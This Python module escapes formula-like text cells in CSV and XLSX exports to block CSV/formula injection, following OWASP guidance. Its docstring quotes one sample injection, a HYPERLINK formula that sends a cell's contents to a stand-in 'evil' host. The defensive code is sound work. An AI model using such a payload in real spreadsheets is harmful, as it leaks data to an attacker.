"""Cells that a spreadsheet would run as formulas are written as text (CSV/formula injection).

A hotspot name, id or team name such as ``=HYPERLINK("http://evil/?"&A1,"Click")`` typed
into the hotspot file would otherwise become a live formula in every tasking CSV and
XLSX opened by an officer. Following the OWASP "CSV Injection" guidance, a text cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed
with a single quote in CSV (spreadsheets then show it as text), and XLSX cells are
stored as strings, never formulas (:func:`force_text_cells`).

Numbers stay numbers: numeric columns are never touched, and a text cell that is a
plain number (``-1.5``, ``+44``, ``-2e-3``) is left as it is, since a spreadsheet reads
it as that number and nothing else.
"""

from __future__ import annotations

import re

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "is_formula_like", "escape_cell", "formula_safe_frame", "force_text_cells"]

#: First characters that make a spreadsheet treat a cell as a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")


def is_formula_like(value: object) -> bool:
    """Whether ``value`` is text a spreadsheet could run as a formula."""
    return (isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
            and not _NUMBER.match(value))


def escape_cell(value: object) -> object:
    """``value`` with a leading ``'`` if it is formula-like; anything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are escaped with :func:`escape_cell` (for CSV).

    Only object and string columns are looked at; numeric, boolean and datetime columns
    are returned as they are.
    """
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
            mask = series.map(is_formula_like).astype(bool)
            if mask.any():
                out[column] = series.astype(object).where(~mask, "'" + series[mask].astype(str))
    return out


def force_text_cells(worksheet) -> int:  # noqa: ANN001 - an openpyxl Worksheet
    """Turn every formula cell of an openpyxl ``worksheet`` back into a text cell.

    openpyxl stores any string that starts with ``=`` as a formula (data type ``"f"``);
    writing our data it never means one. Text cells that start with another formula
    prefix get ``quotePrefix`` so that Excel keeps them as text when a user edits them.

    Returns
    -------
    int
        Number of cells changed.
    """
    changed = 0
    for row in worksheet.iter_rows():
        for cell in row:
            if cell.data_type == "f" or is_formula_like(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True
                changed += 1
    return changed
